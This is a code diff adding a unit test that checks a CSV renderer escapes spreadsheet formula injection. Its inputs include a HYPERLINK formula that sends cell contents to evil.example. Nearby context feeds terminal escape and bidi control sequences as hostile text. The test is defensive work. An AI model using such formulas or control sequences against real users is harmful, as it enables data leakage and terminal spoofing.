@@ -57,6 +57,26 @@ describe('renderRows', () => {
     );
   });
 
+  it('CSV: text that a spreadsheet would run as a formula starts with a quote; numbers stay numbers', () => {
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1', '-2', '@SUM(A1)', '\tx', 'a=b'];
+    const lines = renderRows(
+      names.map((name) => ({ ...ROWS[1], name, seconds: -3 }) as Row),
+      COLUMNS,
+      'csv',
+      { terminal: false },
+    )
+      .split('\n')
+      .slice(1);
+    expect(lines).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",,-3,false`,
+      "'+1,,-3,false",
+      "'-2,,-3,false",
+      "'@SUM(A1),,-3,false",
+      "'\tx,,-3,false",
+      'a=b,,-3,false',
+    ]);
+  });
+
   it('table: API text without escapes or controls', () => {
     const hostile = [{ ...ROWS[1], name: '\u001b[31m红色\u001b[0m\u0007 x\u009b2J\u202e' } as Row];
     expect(renderRows(hostile, COLUMNS, 'table', { terminal: false }).split('\n')[1]).toMatch(
